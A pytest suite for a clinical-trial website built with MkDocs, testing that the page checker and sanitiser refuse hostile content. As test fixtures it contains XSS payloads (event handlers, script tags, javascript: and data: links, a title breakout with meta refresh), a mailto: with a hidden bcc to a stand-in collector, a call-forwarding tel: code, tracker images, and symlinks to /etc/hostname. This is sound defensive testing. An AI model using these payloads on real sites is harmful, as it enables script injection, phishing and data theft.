"""Hostile Markdown pages and front matter: each is refused with its exact message by the check
(which the build runs first), and the build's sanitiser publishes none of it even unchecked."""

from __future__ import annotations

import html
import re
from pathlib import Path

import markdown
import pytest
from helpers import copy_project, run_mkdocs
from trialsite.pages import check_page, page_extensions, read_page, sanitise_page_html
from trialsite.render import Stash, StashError

EXTENSIONS = ("toc", "tables", "fenced_code")
FRONT = "---\ntitle: Privacy\ndescription: How this website handles your data.\n---\n\n"

MARKDOWN_ONLY = "pages are written in Markdown only"
ONLY_ID_CLASS = "only { #id } and { .page-name } may be set (no handlers, no styles, no classes of the theme)"
LINK_RULE = (
    "links must be https:, mailto: or tel: addresses, or a page of this site written as a relative link (sites.md)"
)

# (page body after the front matter, [(line in the file, message)]); the body starts on line 6.
HOSTILE_BODIES = {
    "attr-list-handler-on-load": (
        'Read this.\n{: tabindex=0 autofocus onfocus="alert(1)" }\n',
        [
            (7, f'sets "autofocus" in {{ }}; {ONLY_ID_CLASS}'),
            (7, f'sets "onfocus=alert(1)" in {{ }}; {ONLY_ID_CLASS}'),
            (7, f'sets "tabindex=0" in {{ }}; {ONLY_ID_CLASS}'),
        ],
    ),
    "attr-list-on-link": (
        '[x](https://example.org){: onclick="alert(1)" }\n',
        [(6, f'sets "onclick=alert(1)" in {{ }}; {ONLY_ID_CLASS}')],
    ),
    "attr-list-full-page-heading": (
        '## Heading { onmouseover=alert(1) style="position:fixed;inset:0" }\n',
        [
            (6, f'sets "onmouseover=alert(1)" in {{ }}; {ONLY_ID_CLASS}'),
            (6, f'sets "style=position:fixed;inset:0" in {{ }}; {ONLY_ID_CLASS}'),
        ],
    ),
    "attr-list-theme-class": (
        "## Heading { .md-toggle #__drawer }\n",
        [(6, f'sets "#__drawer" in {{ }}; {ONLY_ID_CLASS}'), (6, f'sets ".md-toggle" in {{ }}; {ONLY_ID_CLASS}')],
    ),
    "attr-list-warning-box": (
        "Stop taking your medicine.\n{ .admonition .danger }\n",
        [(7, f'sets ".admonition" in {{ }}; {ONLY_ID_CLASS}'), (7, f'sets ".danger" in {{ }}; {ONLY_ID_CLASS}')],
    ),
    "mailto-with-hidden-copy": (
        "[Write to the nurse](mailto:nurse@example.org?bcc=collector@evil.example)\n",
        [
            (
                6,
                'links to "mailto:nurse@example.org?bcc=collector@evil.example"; a mailto: link holds one address '
                "and nothing else (no ?subject=, ?cc= or ?bcc=)",
            )
        ],
    ),
    "tel-service-code": (
        "[Call us](tel:*21*004799999999%23)\n",
        [(6, 'links to "tel:*21*004799999999%23"; a tel: link holds one phone number: digits, spaces, + - ( ) only')],
    ),
    "line-separator": (
        "One line\u2028# Heading <img src=x onerror=alert(1)>\n",
        [
            (6, "has an invisible control character (U+2028); delete it"),
            (6, 'has HTML ("<img src=x onerror=alert(1)>"); ' + MARKDOWN_ONLY),
        ],
    ),
    "too-many-brackets": (
        "[" * 2001 + "\n",
        [
            (
                0,
                "is too long for one page (at most 100,000 characters and 2,000 links or brackets); "
                "split it into several pages",
            )
        ],
    ),
    "javascript-link": (
        "[Consent](javascript:alert(document.domain))\n",
        [(6, f'links to "javascript:alert(document.domain)"; {LINK_RULE}')],
    ),
    "javascript-link-mixed-case": (
        "[Consent](JaVaScRiPt:alert(1))\n",
        [(6, f'links to "JaVaScRiPt:alert(1)"; {LINK_RULE}')],
    ),
    "data-link": (
        "[Consent](data:text/html;base64,PHNjcmlwdD4=)\n",
        [(6, f'links to "data:text/html;base64,PHNjcmlwdD4="; {LINK_RULE}')],
    ),
    "reference-link-to-javascript": (
        "Read [the form][f].\n\n[f]: javascript:alert(1)\n",
        [(8, f'links to "javascript:alert(1)"; {LINK_RULE}')],
    ),
    "other-host-written-as-local": (
        "[help](//evil.example/help)\n",
        [(6, f'links to "//evil.example/help"; {LINK_RULE}')],
    ),
    "absolute-path": (
        "[help](/help/)\n",
        [(6, f'links to "/help/"; {LINK_RULE}')],
    ),
    "http-link": (
        "[help](http://example.org/)\n",
        [(6, f'links to "http://example.org/"; {LINK_RULE}')],
    ),
    "broken-page-link": (
        "[help](nothere.md)\n",
        [(6, 'links to "nothere.md", which is not a page of this site')],
    ),
    "escaped-backtick-is-not-code": (
        '\\`<img src=x onerror="alert(1)">`\n',
        [(6, 'has HTML ("<img src=x onerror="alert(1)">"); ' + MARKDOWN_ONLY)],
    ),
    "raw-script": (
        'Text.\n\n<script>alert(1)</script>\n\n<div onclick="alert(1)" style="position:fixed;inset:0">Cover</div>\n',
        [
            (8, 'has HTML ("<script>alert(1)</script>"); ' + MARKDOWN_ONLY),
            (10, 'has HTML ("<div onclick="alert(1)" style="position:..."); ' + MARKDOWN_ONLY),
        ],
    ),
    "html-comment": (
        "<!-- note to self -->\n",
        [(6, 'has HTML ("<!-- note to self -->"); ' + MARKDOWN_ONLY)],
    ),
    "third-party-image": (
        "![logo](https://tracker.example/pixel.png)\n",
        [
            (
                6,
                'shows an image from "https://tracker.example/pixel.png"; images must be files of this site '
                "(under docs/assets/), so that no other host learns who reads the page",
            )
        ],
    ),
    "missing-image": (
        "![logo](assets/nothere.png)\n",
        [(6, 'shows the image "assets/nothere.png", which is not a file of this site')],
    ),
    "control-character": (
        "Hello \x1b[31m world\n",
        [(6, "has an invisible control character (U+001B); delete it")],
    ),
}

SAFE_BODIES = {
    "fenced-code": "```python\nprint('<b>')\n```\n",
    "links-and-ids": "## Heading { #about .page-lead }\n\n[sites](sites.md) [mail](mailto:a@example.org) "
    "[call](tel:+4712345678) [web](https://example.org) [top](#about)\n",
    "code-span-with-html": "Write `<b>` for bold.\n",
    "entities": "Risks &amp; benefits &lt;b&gt;\n",
    "own-image": "![logo](assets/logo.png)\n",
    "forged-stash-placeholder": "trialhtmlblock0x\n\ntrialhtmlblock99x\n",
    "table": "| a | b |\n|:--|--:|\n| 1 | 2 |\n",
}

# (front matter lines, [(line, field, message)])
HOSTILE_FRONT_MATTER = {
    "title-as-list": (
        'title: ["\\x3c/title\\x3e\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"]\ndescription: About.\n',
        [
            (
                2,
                "title",
                "must be plain text, not a list or a number: the page's title (browser tab, menu, search results)",
            )
        ],
    ),
    "subtitle": (
        'title: Privacy\nsubtitle: "\\x3cimg src=x onerror=alert(1)\\x3e"\ndescription: About.\n',
        [(3, "subtitle", "is not a front matter field this site uses; use only title:, description:")],
    ),
    "unclosed-list": (
        "title: [unclosed\ndescription: About.\n",
        [
            (
                3,
                "(front matter)",
                "is not valid YAML here; check the quotes and the indentation on this line and the line above",
            )
        ],
    ),
    "no-title": (
        "description: About.\n",
        [(1, "title", "is missing; add a title: line with the page's title (browser tab, menu, search results)")],
    ),
    "empty-description": (
        'title: Privacy\ndescription: "\\u200b "\n',
        [(3, "description", "is empty; write one sentence on what the page is for (search results and link previews)")],
    ),
    "control-character": (
        'title: "Privacy\\x1b"\ndescription: About.\n',
        [(2, "title", "holds an invisible control character (U+001B) at character 8; remove it")],
    ),
    "binary-tag": (
        "title: !!binary PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==\ndescription: About.\n",
        [(2, "(front matter)", "has a YAML tag (!!...); front matter values are plain text")],
    ),
    "merge-tag-in-flow": (
        '{title: !!merge Privacy, description: "About."}\n',
        [(2, "(front matter)", "has a YAML tag (!!...); front matter values are plain text")],
    ),
    "yes-as-title": (
        "title: yes\ndescription: About.\n",
        [(2, "title", 'yes is read by YAML as true/false; if you mean the text, write it in quotes: "yes"')],
    ),
}


@pytest.fixture
def docs(tmp_path: Path) -> Path:
    for name in ("index.md", "sites.md", "privacy.md", "assets/logo.png"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x", encoding="utf-8")
    return tmp_path


def _check(text: str, docs: Path) -> list[tuple[int, str, str]]:
    files = {path.relative_to(docs).as_posix() for path in docs.rglob("*") if path.is_file()}
    found = check_page(text, "docs/privacy.md", EXTENSIONS, docs / "privacy.md", docs, files)
    return sorted((problem.line, problem.field, problem.message) for problem in found)


@pytest.mark.parametrize("case", HOSTILE_BODIES, ids=list(HOSTILE_BODIES))
def test_hostile_page_body_gets_its_exact_message(case, docs):
    body, expected = HOSTILE_BODIES[case]
    assert _check(FRONT + body, docs) == sorted((line, "(page)", message) for line, message in expected)


@pytest.mark.parametrize("case", SAFE_BODIES, ids=list(SAFE_BODIES))
def test_ordinary_markdown_passes(case, docs):
    assert _check(FRONT + SAFE_BODIES[case], docs) == []


@pytest.mark.parametrize("case", HOSTILE_FRONT_MATTER, ids=list(HOSTILE_FRONT_MATTER))
def test_hostile_front_matter_gets_its_exact_message(case, docs):
    lines, expected = HOSTILE_FRONT_MATTER[case]
    assert _check(f"---\n{lines}---\n\nText.\n", docs) == sorted(expected)


def test_a_page_needs_a_closed_front_matter_block(docs):
    assert _check("# Privacy\n\nText.\n", docs) == [
        (0, "(front matter)", "has no front matter; start the page with ---, a title: and a description: line, and ---")
    ]
    assert _check("---\ntitle: Privacy\n\nText.\n", docs) == [
        (1, "(front matter)", "starts a front matter block with --- but never closes it; end it with a line of ---")
    ]


def test_a_page_with_a_byte_order_mark_is_refused_with_its_reason(docs):
    assert _check("\ufeff" + FRONT + "Text.\n", docs) == [
        (1, "(file)", "starts with a byte-order mark (BOM); save it as UTF-8 without BOM")
    ]


def test_a_marker_is_one_line_so_it_cannot_hide_html_from_the_check(docs):
    """A marker split over lines is no marker: the check and the build read the same text."""
    from trialsite.pages import MARKER_RE

    body = "`<!--\ntrial:title\n-->Q <svg/onload=alert(1)>`\n"
    assert MARKER_RE.search(body) is None
    assert _check(FRONT + body, docs) == []  # a code span: shown as text, as the build shows it
    assert "<svg" not in _published(body)


def test_table_of_contents_titles_become_plain_text():
    from types import SimpleNamespace

    from trialsite.pages import escape_toc

    item = SimpleNamespace(title="Q <?a<!--?><![CDATA[-->x><svg/onload=alert(1)//!@x>]]> &amp; more", children=[])
    top = SimpleNamespace(title="&lt;b&gt;", children=[item])
    escape_toc([top])
    assert "<" not in item.title and "<" not in top.title
    assert top.title == "&lt;b&gt;" and item.title.endswith("&amp; more")


def test_only_pages_and_plain_assets_may_be_in_docs(tmp_path):
    from trialsite.pages import file_problems

    (tmp_path / "assets").mkdir()
    (tmp_path / "no").mkdir()
    (tmp_path / "index.md").write_text("x", encoding="utf-8")
    (tmp_path / "assets" / "logo.png").write_bytes(b"\x89PNG")
    (tmp_path / "assets" / "plain.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>')
    (tmp_path / "evil.html").write_text("<script>alert(1)</script>")
    (tmp_path / "no" / "evil.htm").write_text("<script>alert(1)</script>")
    (tmp_path / "assets" / "x.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    (tmp_path / "leak.txt").symlink_to("/etc/hostname")
    (tmp_path / "zero.md").symlink_to("/dev/zero")
    found = {path.relative_to(tmp_path).as_posix(): message for path, message in file_problems(tmp_path)}
    assert sorted(found) == ["assets/x.svg", "evil.html", "leak.txt", "no/evil.htm", "zero.md"]
    assert found["zero.md"] == found["leak.txt"] == "is a link to another file; put the file itself here"
    assert (
        found["assets/x.svg"] == 'is an SVG image with the attribute "onload"; save it as a plain drawing (or as PNG)'
    )
    assert found["evil.html"].startswith("is not a page (.md) or an image or style file under docs/assets/")


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://owner.github.io/trial/", True),
        ("https://trial.example/", True),
        ("http://127.0.0.1:8000/", True),
        ("http://trial.example/", False),
        ("javascript://x.example/%0aalert(1)//", False),
        ('https://x.example/"><img src=x onerror=alert(1)>/', False),
        ("https://x.example/?a=1", False),
        ("https://x.example", False),
        ("", False),
        ("/relative/", False),
    ],
)
def test_the_sites_address_is_checked(url, ok):
    from trialsite.pages import site_url_problem

    assert (site_url_problem(url) is None) == ok


def test_a_blank_line_in_a_text_cannot_turn_generated_html_into_page_markdown():
    from trialsite.richtext import render_block

    hostile = "Text.\n\n    code\n\n    # Injected { #injected .admonition }\n\n    | a |\n    |---|\n"
    rendered = render_block(hostile, {}).html
    assert "\n\n" not in rendered
    stash = Stash()
    # A blank line inside generated HTML (from a template) keeps what follows in the block;
    # a template's own heading after a block stays Markdown.
    section = stash.set_aside(
        f"## Heading\n\n<div>\n{rendered}\n</div>\n\n<div>x\n\n    code\n\n| a |\n|---|\n\n"
        "more</div>\n\n### Next { #next }"
    )
    assert section.split("\n\n")[0] == "## Heading" and section.split("\n\n")[-1] == "### Next { #next }"
    assert len(stash.blocks) == 2 and "| a |" in stash.blocks[1] and "code" not in section


def test_front_matter_values_are_plain_single_lines():
    source = read_page("---\ntitle: 'Risks & <benefits>'\ndescription: >\n  Two\n  lines.\n---\n\nBody\n", "x.md")
    assert source.problems == []
    assert source.meta == {"title": "Risks & <benefits>", "description": "Two lines."}
    assert source.body.strip() == "Body" and source.body_offset == 6


def _published(markdown_text: str) -> str:
    """What the build publishes for a page body: its Markdown, then the sanitiser."""
    converter = markdown.Markdown(extensions=page_extensions(EXTENSIONS))
    return sanitise_page_html(converter.convert(markdown_text))


ALL_HOSTILE = "\n\n".join(body for body, _ in HOSTILE_BODIES.values()) + (
    '\n\n<a href="https://example.org" onclick="alert(1)">x</a>\n\n<p style="position:fixed;inset:0">cover</p>'
    '\n\n<iframe src="https://evil.example/"></iframe>\n\n<svg onload="alert(1)"></svg>'
    '\n\n<form action="https://evil.example/"><input name="q"></form>\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">'
)


def test_sanitiser_keeps_nothing_that_runs_styles_or_loads(docs):
    published = _published(ALL_HOSTILE)
    for forbidden in (
        " on",
        "style=",
        "javascript:",
        "JaVaScRiPt",
        "data:",
        "<script",
        "<iframe",
        "<svg",
        "<form",
        "<input",
        "<meta",
        "tracker.example",
        "//evil.example",
        "autofocus",
        "tabindex",
    ):
        assert forbidden not in published, forbidden
    # What a page may have survives.
    assert 'href="https://example.org"' in published and "<h2" in published


def test_sanitiser_keeps_table_alignment_only():
    published = _published("| a | b |\n|:--|--:|\n| 1 | 2 |\n")
    assert 'style="text-align: left;"' in published and 'style="text-align: right;"' in published
    assert "position" not in _published("| a |\n|---|\n| 1 |\n").replace("text-align", "")


def test_sanitised_hostile_page_runs_nothing_in_chromium(browser):
    """The build's sanitiser alone (as if the check had been skipped) publishes a harmless page."""
    context = browser.new_context()
    page = context.new_page()
    dialogs, requests = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))
    body = _published(ALL_HOSTILE)
    page.set_content(f"<!doctype html><html><head><title>t</title></head><body>{body}</body></html>")
    for element in page.query_selector_all("body *"):
        if element.is_visible():
            element.hover()
            element.focus()
    for link in page.query_selector_all("a"):
        href = link.get_attribute("href") or ""
        assert href == "" or href.startswith(("https:", "mailto:", "tel:", "sites", "nothere", "#")), href
    page.wait_for_timeout(200)
    assert dialogs == [] and page.url == "about:blank"
    assert [url for url in requests if not url.startswith(("about:", "data:"))] == []
    context.close()


def test_a_page_cannot_forge_a_generated_block():
    stash = Stash()
    markdown_text = stash.set_aside("Text\n\n<div>generated</div>")
    # A page that writes an old-style placeholder, or guesses one, only shows text.
    page_html = f"<p>trialhtmlblock0x</p>\n<p>trialblock{'0' * 24}n0</p>\n<p>{markdown_text.split(chr(10))[-1]}</p>"
    restored = stash.restore(page_html)
    assert restored.count("<div>generated</div>") == 1
    assert "<p>trialhtmlblock0x</p>" in restored and f"trialblock{'0' * 24}n0" in restored


def test_a_lost_generated_block_fails_loudly():
    stash = Stash()
    stash.set_aside("<div>one</div>\n\n<div>two</div>")
    with pytest.raises(StashError):
        stash.restore("<p>nothing here</p>")


@pytest.mark.build
def test_titles_and_descriptions_are_escaped_wherever_the_theme_prints_them(tmp_path, browser):
    """Plain-text titles may hold any character; each place the theme prints one gets it as text."""
    project = copy_project(tmp_path / "project")
    title = '0;url=https://evil.example/phish" http-equiv="refresh" </title><script>alert(1)</script> & more'
    description = 'A page" onmouseover="alert(2)'
    page = project / "docs" / "privacy.md"
    text = page.read_text(encoding="utf-8")
    text = re.sub(r"^title: .*$", "title: " + _yaml_quoted(title), text, count=1, flags=re.MULTILINE)
    text = re.sub(r"^description: .*$", "description: " + _yaml_quoted(description), text, count=1, flags=re.MULTILINE)
    page.write_text(text, encoding="utf-8")
    result = run_mkdocs(project, tmp_path / "site")
    assert result.returncode == 0, result.stderr
    built = (tmp_path / "site" / "privacy" / "index.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in built and 'http-equiv="refresh"' not in built
    assert f"<title>{html.escape(title)} - " in built
    assert f'<meta property="og:title" content="{html.escape(title)} - ' in built
    assert f'<meta name="description" content="{html.escape(description)}">' in built
    # Every other page names this one in its menu: escaped there too.
    assert html.escape(title) in (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    context = browser.new_context()
    visit = context.new_page()
    dialogs: list[str] = []
    visit.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    visit.goto((tmp_path / "site" / "privacy" / "index.html").as_uri())
    visit.wait_for_timeout(300)
    assert dialogs == [] and visit.url.endswith("/privacy/index.html")
    assert visit.title().startswith(title)
    context.close()


def _yaml_quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


@pytest.mark.build
def test_the_check_ends_with_the_builds_own_verdict(tmp_path):
    """A link to a heading that does not exist is known only to MkDocs: the check runs its strict build."""
    import io

    from trialsite.cli import main

    project = copy_project(tmp_path / "project", hooks=True)  # the check builds in a process of its own
    page = project / "docs" / "privacy.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n[x](sites.md#no-such-heading)\n", encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    assert main(["--config", str(project / "mkdocs.yml")], out=out, err=err) == 1
    assert (
        "contains a link 'sites.md#no-such-heading', but the doc 'sites.md' does not contain an anchor"
        in err.getvalue()
    )
    assert "Traceback" not in err.getvalue()
    assert not list(tmp_path.glob("project/site*"))  # nothing is built where it could be published


@pytest.mark.build
def test_a_page_id_that_the_sites_own_content_uses_stops_the_build(tmp_path):
    """{ #map-title } before the map would rename it for screen readers: the build refuses it."""
    project = copy_project(tmp_path / "project")
    page = project / "docs" / "sites.md"
    page.write_text(
        page.read_text(encoding="utf-8").replace(
            "<!-- trial:map -->", "Closed.\n{ #map-title }\n\n<!-- trial:map -->", 1
        ),
        encoding="utf-8",
    )
    result = run_mkdocs(project, tmp_path / "site")
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert (
        "sites.md: the page sets { #map-title }, an id the site's own content on this page uses; choose another id"
        in result.stderr
    )


@pytest.mark.build
@pytest.mark.parametrize(
    "url", ['javascript://x.example/%0aalert(1)//"><img src=x onerror=alert(42)>/', "http://trial.example/"]
)
def test_a_bad_site_address_stops_the_build(tmp_path, url):
    from helpers import ROOT, build

    result = build(ROOT, tmp_path / "site", environment={"SITE_URL": url})
    assert result.returncode != 0 and "Traceback" not in result.output
    assert "site_url (SITE_URL) is " in result.output
    assert not (tmp_path / "site" / "index.html").exists()


@pytest.mark.parametrize(
    ("href", "allowed"),
    [
        ("mailto:trial@hospital.example", True),
        ("tel:+47 22 11 80 80", True),
        ("tel:(0)22-118080", True),
        ("mailto:trial@hospital.example?bcc=collector%40evil.example", False),
        ("mailto:a@b.example?subject=Hi", False),
        ("tel:*21*004799999999%23", False),
        ("tel:#31#", False),
    ],
)
def test_data_texts_follow_the_same_mailto_and_tel_rule(href, allowed):
    from trialsite.richtext import link_problem

    assert (link_problem(href) is None) == allowed


def test_the_contact_address_is_one_plain_address():
    from pydantic import ValidationError
    from trialsite.model import Contact

    Contact(email="trial@hospital.example")
    with pytest.raises(ValidationError):
        Contact(email="trial@hospital.example?bcc=collector%40evil.example")


@pytest.mark.parametrize(
    ("svg", "reason"),
    [
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><a href="jav&#x61;script:alert(1)">'
            '<rect width="9" height="9"/></a></svg>',
            "a <a> element",
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://tracker.example/p.png"/></svg>',
            "a <image> element",
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="https://x.example/a.svg#b"/></svg>',
            'a link to "https://x.example/a.svg#b"',
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(https://x.example/p.png)"/></svg>',
            '"url(https://x.example/p.png)"',
        ),
        ('<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="x" to="1"/></svg>', "a <set> element"),
        ('<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg"/>', "a document type or entities"),
        (
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">'
            '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>'
            '<rect width="9" height="9" rx="2" fill="url(#g)"/><use href="#g"/></svg>',
            None,
        ),
    ],
)
def test_an_svg_in_assets_is_a_drawing_and_nothing_more(svg, reason):
    from trialsite.pages import svg_problem

    assert svg_problem(svg.encode()) == reason


def test_a_fact_is_inserted_as_text_never_as_markdown():
    """Lab limits bring catalogue words into data texts: a link there stays text."""
    from trialsite.richtext import render_block

    facts = {"labs.hb": "8,0 g/dL (ca. [login](https://evil.example/) [ring](tel:*21*0045#) <b>x</b> *5,0* mmol/L)"}
    rendered = render_block("Hæmoglobin mindst {labs.hb}.", facts)
    assert "<a" not in rendered.html and "<b>" not in rendered.html and "<em>" not in rendered.html
    assert rendered.text == "Hæmoglobin mindst " + facts["labs.hb"] + "."


@pytest.mark.build
def test_a_page_id_that_copies_a_glossary_tip_or_a_heading_stops_the_build(tmp_path):
    from helpers import LANGUAGES, SEED
    from trialsite.validation import load_trial

    drug = load_trial(SEED, LANGUAGES).drugs[0].id
    project = copy_project(tmp_path / "project")
    page = project / "docs" / "index.md"
    page.write_text(page.read_text(encoding="utf-8") + f"\n## Fake section {{ #drug-{drug} }}\n", encoding="utf-8")
    result = run_mkdocs(project, tmp_path / "site")
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert f'index.md: the id "drug-{drug}" is used twice on the page' in result.stderr
